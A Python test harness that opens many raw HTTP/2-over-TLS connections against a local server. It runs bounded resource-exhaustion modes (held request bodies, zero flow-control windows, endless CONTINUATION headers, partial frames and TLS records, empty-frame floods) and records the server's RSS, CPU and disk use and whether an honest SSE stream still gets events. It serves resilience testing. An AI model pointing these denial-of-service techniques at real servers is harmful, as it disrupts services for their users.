#!/usr/bin/env python3
"""Hostile HTTP/2 clients against one HTTPS server, and what they make it spend.

N attacking connections (raw HTTP/2 frames over TLS, so that the client can send
what a well-behaved HTTP/2 library refuses to) run one MODE against the server,
while one honest SSE stream on its own connection must keep receiving events
published during and after the attack. Bounded: every step has a deadline and
the run ends by itself after --hold seconds (plus a few seconds to probe).

    attack.py --base https://127.0.0.1:8443 --mode bodies --conns 20 \
        --server-pid PID --sub-path '/api/user/sse/connect?userId=honest' \
        --pub-path /api/broadcast --pub-body '{"data":"{marker}","target":"all"}' \
        --post-path /api/broadcast --get-path /metrics --hold 35

Modes (each attacking connection):
  bodies          128 streams POST --post-path without END_STREAM (content-length
                  60000), then DATA as fast as flow control allows, up to 60,000
                  bytes a stream, then hold
  zero_window     SETTINGS_INITIAL_WINDOW_SIZE 0, then 128 GET --get-path
                  (END_STREAM), never any window; hold
  slow_headers    HEADERS without END_HEADERS, then a 1-byte CONTINUATION every
                  second, never ending the block
  partial         5 bytes of a 9-byte frame header, then silence
  partial_record  the header of a 8 KiB TLS record and 3 of its bytes, written
                  under TLS, then silence
  empty_frames    one POST stream left open, then zero-length DATA and PRIORITY
                  frames on it as fast as the socket takes them, for --flood
                  seconds (or until closed); then hold
  idle            the preface and SETTINGS, nothing else

Measured: the server's RSS (/proc/PID/status, sampled every 100 ms) before the
attack, at its peak, at the end of the hold and after the attackers are gone;
its CPU time (utime + stime, /proc/PID/stat) from the attack's start to the end
of the hold; bytes the attackers sent (HTTP/2 frames, before TLS); when the
server closed each attacking connection; the GOAWAY, RST_STREAM and answers
each got; whether each probe event reached the honest stream. One JSON object
on stdout. Certificates are not verified (loopback).
Needs the `h2` package (and its `hpack`), perf/requirements.txt.
"""

import argparse
import asyncio
import collections
import json
import os
import ssl
import statistics
import struct
import sys
import time
from urllib.parse import urlsplit

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE = 0x4, 0x5
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
          "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
          "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
STREAMS = 128
BODY = 60_000
CLK_TCK = os.sysconf("SC_CLK_TCK")


def error_name(code: int) -> str:
    return ERRORS[code] if code < len(ERRORS) else f"0x{code:x}"


def rss(pid: int) -> int:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    raise RuntimeError("no VmRSS")


def cpu_seconds(pid: int) -> float:
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    # utime and stime are fields 14 and 15 of the line (1-based), 12 and 13 after ")".
    return (int(fields[11]) + int(fields[12])) / CLK_TCK


def disk_bytes(path) -> int:
    """Bytes in the files under path (nginx's request body temp files)."""
    total = 0
    for d, _, files in os.walk(path):
        for f in files:
            try:
                total += os.stat(os.path.join(d, f)).st_size
            except OSError:
                pass
    return total


def context(alpn: str) -> ssl.SSLContext:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols([alpn])
    return ctx


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value: int, prefix: int, first: int = 0) -> bytes:
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def header_block(fields) -> bytes:
    """Every field a literal without indexing, new name, no Huffman: valid for
    any server, whatever table size it asks for."""
    out = bytearray()
    for name, value in fields:
        n, v = name.encode(), value.encode()
        out += b"\x00" + hpack_int(len(n), 7) + n + hpack_int(len(v), 7) + v
    return bytes(out)


def request(method: str, path: str, extra=()):
    return [(":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost"), *extra]


class Raw:
    """One attacking HTTP/2 connection: frames written as given, frames read
    and counted (SETTINGS acknowledged, windows tracked, GOAWAY, RST_STREAM
    and answers recorded) until the server closes it."""

    def __init__(self, reader, writer, t0):
        import hpack

        self.reader, self.writer = reader, writer
        self.started = t0
        self.closed_at = None
        self.close_reason = None
        self.read_end = None
        self.closed = asyncio.Event()
        self.sent = 0
        self.frames_sent = 0
        self.goaway = []
        self.resets = collections.Counter()
        self.reset_streams = set()
        self.answered = set()
        self.statuses = collections.Counter()
        self.first_reset = None
        self.conn_window = 65_535
        self.initial_window = 65_535
        self.stream_windows = collections.defaultdict(lambda: self.initial_window)
        self.max_frame = 16_384
        self.window_changed = asyncio.Event()
        self.got_settings = asyncio.Event()
        self.decoder = hpack.Decoder()
        self.block = None
        self.task = asyncio.create_task(self.read_loop())

    @classmethod
    async def open(cls, host, port, settings=(), timeout=10.0):
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(host, port, ssl=context("h2"), server_hostname="localhost"), timeout)
        alpn = writer.get_extra_info("ssl_object").selected_alpn_protocol()
        if alpn != "h2":
            writer.close()
            raise RuntimeError(f"ALPN {alpn!r}, not h2")
        c = cls(reader, writer, time.monotonic())
        payload = b"".join(struct.pack(">HI", k, v) for k, v in settings)
        c.write(PREFACE + frame(SETTINGS, 0, 0, payload))
        await c.drain()
        try:
            await asyncio.wait_for(c.got_settings.wait(), timeout)
        except asyncio.TimeoutError:
            pass
        return c

    def write(self, data: bytes, frames: int = 1):
        if self.writer.transport.is_closing():
            # Closed by the server: asyncio would drop what is written.
            self.mark_closed("closed while writing")
        if self.closed.is_set():
            return
        self.writer.write(data)
        self.sent += len(data)
        self.frames_sent += frames

    async def drain(self):
        try:
            await self.writer.drain()
        except (ConnectionError, ssl.SSLError, OSError) as e:
            self.mark_closed(type(e).__name__)

    def mark_closed(self, reason):
        if self.close_reason is None:
            self.close_reason = reason
        if not self.closed.is_set():
            self.closed_at = time.monotonic()
            self.closed.set()

    async def read_loop(self):
        buf = bytearray()
        reason = "EOF"
        try:
            while True:
                data = await self.reader.read(65536)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload = bytes(buf[9:9 + length])
                    del buf[:9 + length]
                    self.on_frame(kind, flags, stream, payload)
        except (ConnectionError, ssl.SSLError, OSError, asyncio.IncompleteReadError) as e:
            # A reset: what was received but not yet read (a GOAWAY) is lost.
            reason = type(e).__name__
        finally:
            self.read_end = reason
            self.mark_closed(reason)

    def on_frame(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                key, value = struct.unpack(">HI", payload[i:i + 6])
                if key == INITIAL_WINDOW_SIZE:
                    delta = value - self.initial_window
                    self.initial_window = value
                    for s in list(self.stream_windows):
                        self.stream_windows[s] += delta
                    self.window_changed.set()
                elif key == MAX_FRAME_SIZE:
                    self.max_frame = value
            self.write(frame(SETTINGS, ACK, 0))
            self.got_settings.set()
        elif kind == WINDOW_UPDATE and len(payload) == 4:
            inc = int.from_bytes(payload, "big") & 0x7FFFFFFF
            if stream == 0:
                self.conn_window += inc
            else:
                self.stream_windows[stream] += inc
            self.window_changed.set()
        elif kind == PING and not flags & ACK:
            self.write(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY and len(payload) >= 8:
            self.goaway.append(error_name(int.from_bytes(payload[4:8], "big")))
        elif kind == RST_STREAM and len(payload) == 4:
            self.resets[error_name(int.from_bytes(payload, "big"))] += 1
            self.reset_streams.add(stream)
            if self.first_reset is None:
                self.first_reset = time.monotonic() - self.started
        elif kind == HEADERS:
            if flags & PADDED:
                pad = payload[0]
                payload = payload[1:len(payload) - pad]
            if flags & PRIORITY_FLAG:
                payload = payload[5:]
            self.block = (stream, bytearray(payload))
            if flags & END_HEADERS:
                self.end_block()
        elif kind == CONTINUATION and self.block is not None:
            self.block[1].extend(payload)
            if flags & END_HEADERS:
                self.end_block()

    def end_block(self):
        stream, block = self.block
        self.block = None
        try:
            fields = dict(self.decoder.decode(bytes(block), raw=True))
        except Exception:  # a block the decoder refuses: counted, not fatal
            self.statuses["undecodable"] += 1
            return
        status = fields.get(b":status")
        if status is not None and stream not in self.answered:
            self.answered.add(stream)
            self.statuses[status.decode()] += 1

    def close(self):
        self.writer.close()
        self.task.cancel()

    def report(self, hold_end):
        kept = None if self.closed_at is None or self.closed_at > hold_end else self.closed_at - self.started
        return {
            "kept_s": None if kept is None else round(kept, 2),
            "close": None if kept is None else self.close_reason,
            "read_end": self.read_end,
            "open_s": round(min(self.closed_at or hold_end, hold_end) - self.started, 2),
            "sent": self.sent,
            "frames_sent": self.frames_sent,
            "goaway": self.goaway,
            "resets": dict(self.resets),
            "first_reset_s": None if self.first_reset is None else round(self.first_reset, 2),
            "answers": dict(self.statuses),
        }


# ---- the attacks: each opens its connection, sets `ready` once it is set up,
# and returns when the hold ends or the server closes it ------------------------

async def attack(a, host, port, ready: asyncio.Event, hold_end: float, conns: list):
    try:
        await attack_one(a, host, port, ready, hold_end, conns)
    finally:
        ready.set()


async def attack_one(a, host, port, ready, hold_end, conns):
    mode = a.mode
    settings = [(INITIAL_WINDOW_SIZE, 0)] if mode == "zero_window" else []
    c = await Raw.open(host, port, settings)
    conns.append(c)
    until = lambda: max(0.0, hold_end - time.monotonic())  # noqa: E731

    if mode == "bodies":
        heads = b"".join(
            frame(HEADERS, END_HEADERS, 1 + 2 * i, header_block(request(
                "POST", a.post_path, [("content-type", a.post_type), ("content-length", str(BODY))])))
            for i in range(STREAMS))
        c.write(heads, STREAMS)
        await c.drain()
        left = {1 + 2 * i: BODY for i in range(STREAMS)}
        setup_end = time.monotonic() + a.setup
        while left and not c.closed.is_set() and time.monotonic() < setup_end:
            progressed = False
            for sid in list(left):
                if sid in c.reset_streams or sid in c.answered:
                    del left[sid]
                    continue
                room = min(left[sid], c.max_frame, c.conn_window, c.stream_windows[sid])
                if room <= 0:
                    continue
                c.write(frame(DATA, 0, sid, b"x" * room))
                c.conn_window -= room
                c.stream_windows[sid] -= room
                left[sid] -= room
                if left[sid] == 0:
                    del left[sid]
                progressed = True
            await c.drain()
            await asyncio.sleep(0)
            if not progressed:
                # No window left: wait for the server to give some back; a second
                # without any means it holds what it has taken.
                c.window_changed.clear()
                try:
                    await asyncio.wait_for(c.window_changed.wait(), 1.0)
                except asyncio.TimeoutError:
                    break
    elif mode == "zero_window":
        extra = [("accept", "text/event-stream")] if a.get_sse else []
        heads = b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i,
                  header_block(request("GET", a.get_path.replace("{i}", f"z{id(c)}-{i}"), extra)))
            for i in range(STREAMS))
        c.write(heads, STREAMS)
        await c.drain()
        await asyncio.sleep(1.0)
    elif mode == "slow_headers":
        block = header_block(request("GET", "/", [("x-padding", "p" * 1000)]))
        c.write(frame(HEADERS, END_STREAM, 1, block[:3]))
        await c.drain()
        ready.set()
        pos = 3
        while pos < len(block) - 1 and not c.closed.is_set() and until() > 0:
            try:
                await asyncio.wait_for(c.closed.wait(), min(1.0, until()))
                break
            except asyncio.TimeoutError:
                pass
            c.write(frame(CONTINUATION, 0, 1, block[pos:pos + 1]))
            pos += 1
            await c.drain()
    elif mode == "partial":
        c.write(frame(PING, 0, 0, b"12345678")[:5], 0)
        await c.drain()
    elif mode == "partial_record":
        # Under TLS, on the socket itself: the header of an 8 KiB application
        # data record and 3 of its bytes (nothing else is being written now).
        await c.drain()
        os.write(c.writer.get_extra_info("socket").fileno(), b"\x17\x03\x03\x20\x00\x01\x02\x03")
        c.sent += 8
    elif mode == "empty_frames":
        c.write(frame(HEADERS, END_HEADERS, 1, header_block(request("POST", a.post_path, [("content-type", a.post_type)]))))
        await c.drain()
        pair = frame(DATA, 0, 1) + frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15))
        burst = pair * 2000
        ready.set()
        flood_end = time.monotonic() + a.flood
        while not c.closed.is_set() and time.monotonic() < min(flood_end, hold_end):
            c.write(burst, 4000)
            await c.drain()
            # drain() does not yield while the socket takes everything: let the
            # reader (the server's GOAWAY), the other attackers and the probes run.
            await asyncio.sleep(0)
    elif mode == "idle":
        pass
    else:
        raise ValueError(mode)
    ready.set()
    if until() > 0:
        try:
            await asyncio.wait_for(c.closed.wait(), until())
        except asyncio.TimeoutError:
            pass


# ---- the honest stream and its probes ------------------------------------------

class Honest:
    """One SSE stream on its own HTTP/2 connection (the h2 package, a client as
    any), collecting what it receives."""

    def __init__(self):
        self.seen = bytearray()
        self.got = asyncio.Event()
        self.closed = False

    async def run(self, host, port, path, opened: asyncio.Event):
        import h2.config
        import h2.connection
        import h2.events

        reader, writer = await asyncio.open_connection(host, port, ssl=context("h2"), server_hostname="localhost")
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        conn.send_headers(1, request("GET", path, [("accept", "text/event-stream")]), end_stream=True)
        writer.write(conn.data_to_send())
        try:
            while True:
                data = await reader.read(65536)
                if not data:
                    break
                for ev in conn.receive_data(data):
                    if isinstance(ev, h2.events.ResponseReceived):
                        status = dict(ev.headers).get(b":status")
                        if status != b"200":
                            raise RuntimeError(f"honest stream: status {status}")
                        opened.set()
                    elif isinstance(ev, h2.events.DataReceived):
                        self.seen += ev.data
                        self.got.set()
                        conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    elif isinstance(ev, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                        raise RuntimeError(f"honest stream ended: {ev}")
                out = conn.data_to_send()
                if out:
                    writer.write(out)
        finally:
            self.closed = True
            self.got.set()
            writer.close()

    async def receives(self, marker: bytes, timeout: float) -> bool:
        end = time.monotonic() + timeout
        while marker not in self.seen:
            if self.closed or time.monotonic() > end:
                return False
            self.got.clear()
            try:
                await asyncio.wait_for(self.got.wait(), end - time.monotonic())
            except asyncio.TimeoutError:
                return marker in self.seen
        return True


async def publish(host, port, path, body: str, timeout: float) -> int:
    """POST over HTTP/1.1 on a TLS connection of its own; the status."""
    reader, writer = await asyncio.wait_for(
        asyncio.open_connection(host, port, ssl=context("http/1.1"), server_hostname="localhost"), timeout)
    try:
        b = body.encode()
        writer.write(
            f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(b)}\r\nConnection: close\r\n\r\n".encode() + b)
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), timeout)
        return int(head.split(b" ", 2)[1])
    finally:
        writer.close()


async def probe(a, host, port, honest: Honest, name: str):
    """Publish a marker; (delivered, seconds from publish to receipt)."""
    marker = f"probe-{name}-{time.monotonic_ns()}"
    t = time.monotonic()
    try:
        status = await publish(host, port, a.pub_path, a.pub_body.replace("{marker}", marker), a.probe_timeout)
    except (OSError, ssl.SSLError, asyncio.TimeoutError, asyncio.IncompleteReadError, ValueError) as e:
        print(f"probe {name}: publish failed: {e!r}", file=sys.stderr)
        return False, None
    if not 200 <= status < 300:
        print(f"probe {name}: publish answered {status}", file=sys.stderr)
        return False, None
    ok = await honest.receives(marker.encode(), a.probe_timeout)
    return ok, round(time.monotonic() - t, 3) if ok else None


def summarize(reports, n):
    goaway = collections.Counter(g for r in reports for g in r["goaway"])
    resets = collections.Counter()
    answers = collections.Counter()
    for r in reports:
        resets.update(r["resets"])
        answers.update(r["answers"])
    kept = [r["kept_s"] for r in reports if r["kept_s"] is not None]
    return {
        "closed_by_server": len(kept),
        "kept_s_median": round(statistics.median(kept), 2) if kept else None,
        "kept_s_min": min(kept) if kept else None,
        "kept_s_max": max(kept) if kept else None,
        "goaway": dict(goaway),
        "resets": dict(resets),
        "answers": dict(answers),
        "first_reset_s_median": (round(statistics.median(
            [r["first_reset_s"] for r in reports if r["first_reset_s"] is not None]), 2)
            if any(r["first_reset_s"] is not None for r in reports) else None),
    }


async def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--base", required=True, help="https://127.0.0.1:PORT")
    ap.add_argument("--mode", required=True,
                    choices=["bodies", "zero_window", "slow_headers", "partial", "partial_record",
                             "empty_frames", "idle"])
    ap.add_argument("--conns", type=int, default=20)
    ap.add_argument("--server-pid", type=int, required=True)
    ap.add_argument("--sub-path", required=True, help="the honest SSE stream's path")
    ap.add_argument("--pub-path", required=True)
    ap.add_argument("--pub-body", required=True, help="publish body, {marker} replaced")
    ap.add_argument("--post-path", required=True, help="where bodies and empty_frames POST")
    ap.add_argument("--post-type", default="application/json")
    ap.add_argument("--get-path", required=True, help="zero_window's GET ({i}: a unique id)")
    ap.add_argument("--get-sse", action="store_true", help="zero_window's GETs send Accept: text/event-stream")
    ap.add_argument("--hold", type=float, default=35.0, help="seconds from the attack's start to its end")
    ap.add_argument("--setup", type=float, default=20.0, help="bodies: at most this long sending")
    ap.add_argument("--flood", type=float, default=10.0, help="empty_frames: seconds of flood")
    ap.add_argument("--probe-every", type=float, default=5.0)
    ap.add_argument("--probe-timeout", type=float, default=5.0)
    ap.add_argument("--disk-dir", help="a directory where the server keeps request bodies (nginx's "
                    "client_body_temp_path): its files' bytes are sampled too")
    ap.add_argument("--label", default="")
    a = ap.parse_args()
    if not 1 <= a.conns <= 1000 or not 1 <= a.hold <= 600:
        ap.error("--conns within 1..1000, --hold within 1..600")
    u = urlsplit(a.base)
    host, port = u.hostname, u.port
    pid = a.server_pid

    honest = Honest()
    opened = asyncio.Event()
    honest_task = asyncio.create_task(honest.run(host, port, a.sub_path, opened))
    try:
        await asyncio.wait_for(opened.wait(), 10)
    except asyncio.TimeoutError:
        print("the honest stream did not open", file=sys.stderr)
        return 1
    ok, _ = await probe(a, host, port, honest, "before")
    if not ok:
        print("the honest stream does not receive even before the attack", file=sys.stderr)
        return 1
    # What every connection costs the allocator once, before the baseline.
    for _ in range(4):
        w = await Raw.open(host, port)
        w.close()
    await asyncio.sleep(1.0)
    rss_before, cpu_before = rss(pid), cpu_seconds(pid)

    peak = {"rss": rss_before, "at": 0.0, "disk": 0}
    t_start = time.monotonic()
    hold_end = t_start + a.hold
    stop_sampling = asyncio.Event()

    async def sample():
        while not stop_sampling.is_set():
            try:
                r = rss(pid)
            except (OSError, RuntimeError):
                return
            if r > peak["rss"]:
                peak.update(rss=r, at=round(time.monotonic() - t_start, 2))
            if a.disk_dir and int(time.monotonic() * 10) % 5 == 0:
                peak["disk"] = max(peak["disk"], disk_bytes(a.disk_dir))
            try:
                await asyncio.wait_for(stop_sampling.wait(), 0.1)
            except asyncio.TimeoutError:
                pass

    sampler = asyncio.create_task(sample())
    conns: list[Raw] = []
    readies = [asyncio.Event() for _ in range(a.conns)]
    tasks = [asyncio.create_task(attack(a, host, port, readies[i], hold_end, conns)) for i in range(a.conns)]

    async def all_ready():
        await asyncio.gather(*(r.wait() for r in readies))

    ready_task = asyncio.create_task(all_ready())
    await asyncio.wait([ready_task], timeout=max(1.0, hold_end - time.monotonic()))
    setup_s = round(time.monotonic() - t_start, 2)
    rss_setup = rss(pid)
    # Probes while the attack holds: one at once, then every --probe-every.
    during = []
    while time.monotonic() < hold_end - 0.5:
        during.append(await probe(a, host, port, honest, f"during{len(during)}"))
        await asyncio.sleep(max(0.0, min(a.probe_every, hold_end - time.monotonic() - 0.5)))
    await asyncio.wait(tasks, timeout=max(0.0, hold_end - time.monotonic()) + 2)
    rss_hold, cpu_hold = rss(pid), cpu_seconds(pid)
    disk_hold = disk_bytes(a.disk_dir) if a.disk_dir else 0
    stop_sampling.set()
    await sampler
    failed = [t for t in tasks if t.done() and not t.cancelled() and t.exception()]
    reports = [c.report(hold_end) for c in conns]
    for c in conns:
        c.close()
    for t in [*tasks, ready_task]:
        t.cancel()
    await asyncio.gather(*tasks, ready_task, return_exceptions=True)
    await asyncio.sleep(1.0)
    after_ok, after_delay = await probe(a, host, port, honest, "after")
    rss_gone = rss(pid)
    honest_task.cancel()
    await asyncio.gather(honest_task, return_exceptions=True)

    n = a.conns
    sent = sum(r["sent"] for r in reports)
    cpu = cpu_hold - cpu_before
    out = {
        "label": a.label,
        "mode": a.mode,
        "conns": n,
        "connected": len(conns),
        "attack_errors": [repr(t.exception()) for t in failed][:3],
        "hold_s": a.hold,
        "setup_s": setup_s,
        "rss_before": rss_before,
        "rss_setup": rss_setup,
        "rss_peak": peak["rss"],
        "rss_peak_at_s": peak["at"],
        "rss_hold": rss_hold,
        "rss_gone": rss_gone,
        "rss_peak_per_conn": round((peak["rss"] - rss_before) / n),
        "rss_hold_per_conn": round((rss_hold - rss_before) / n),
        "rss_gone_per_conn": round((rss_gone - rss_before) / n),
        "disk_peak": max(peak["disk"], disk_hold),
        "disk_hold": disk_hold,
        "disk_peak_per_conn": round(max(peak["disk"], disk_hold) / n),
        "cpu_s": round(cpu, 3),
        "cpu_ms_per_conn": round(cpu * 1000 / n, 2),
        "bytes_sent": sent,
        "frames_sent": sum(r["frames_sent"] for r in reports),
        "cpu_ms_per_mb": round(cpu * 1000 / (sent / 1e6), 2) if sent >= 100_000 else None,
        "honest_during": [ok for ok, _ in during],
        "honest_during_delay_s": [d for _, d in during],
        "honest_after": after_ok,
        "honest_after_delay_s": after_delay,
        **summarize(reports, n),
        "per_conn": reports,
    }
    print(json.dumps(out))
    return 0


def fmt_counts(counts: dict, prefix: str) -> list:
    return [f"{prefix}{k} ×{v:,}" for k, v in sorted(counts.items(), key=lambda kv: -kv[1])]


def table(paths) -> str:
    """The Markdown table of attack.sh's rows (JSON files, one per row)."""
    lines = [
        "| mode | server | RSS per conn, peak | after the hold | body files per conn | CPU ms per conn | CPU ms per MB sent "
        "| MB sent | closed by the server after (s) | honest stream during, after | attacker got |",
        "|---|---|---:|---:|---:|---:|---:|---:|---|---|---|",
    ]
    for p in paths:
        with open(p) as f:
            j = json.load(f)
        n = j["conns"]
        def s(x):
            return f"{x:.2f}" if x < 1 else f"{x:.1f}"
        if j["closed_by_server"] == 0:
            kept = f"not closed (> {j['hold_s']:g})"
        elif j["closed_by_server"] == n:
            kept = f"{s(j['kept_s_median'])} ({s(j['kept_s_min'])}–{s(j['kept_s_max'])})"
        else:
            kept = f"{s(j['kept_s_median'])} ({j['closed_by_server']}/{n} closed)"
        during = j["honest_during"]
        honest = f"{sum(during)}/{len(during)}, {'yes' if j['honest_after'] else 'NO'}"
        got = fmt_counts(j["goaway"], "GOAWAY ") + fmt_counts(j["resets"], "RST ") + fmt_counts(j["answers"], "")
        silent = collections.Counter(r.get("read_end") or r.get("close") or "?" for r in j["per_conn"]
                                     if r["kept_s"] is not None and not r["goaway"])
        for why, k in silent.items():
            got.append(f"{k} closed with no GOAWAY read ({why})")
        if j["first_reset_s_median"] is not None and j["resets"]:
            got.append(f"first RST at {j['first_reset_s_median']:g} s")
        if j["attack_errors"]:
            got.append("client errors: " + "; ".join(j["attack_errors"]))
        mb = j["bytes_sent"] / 1e6
        lines.append(
            f"| {j['mode']} | {j['label']} | {j['rss_peak_per_conn']:,} B | {j['rss_hold_per_conn']:,} B "
            f"| {'–' if not j.get('disk_peak') else format(j['disk_peak_per_conn'], ',') + ' B'} "
            f"| {j['cpu_ms_per_conn']:.1f} | {'–' if j['bytes_sent'] < 100_000 else format(j['cpu_ms_per_mb'], ',.1f')} "
            f"| {mb:.2f} | {kept} | {honest} | {'; '.join(got) or 'nothing'} |")
    return "\n".join(lines)


if __name__ == "__main__":
    if sys.argv[1:2] == ["table"]:
        print(table(sys.argv[2:]))
        sys.exit(0)
    sys.exit(asyncio.run(main()))
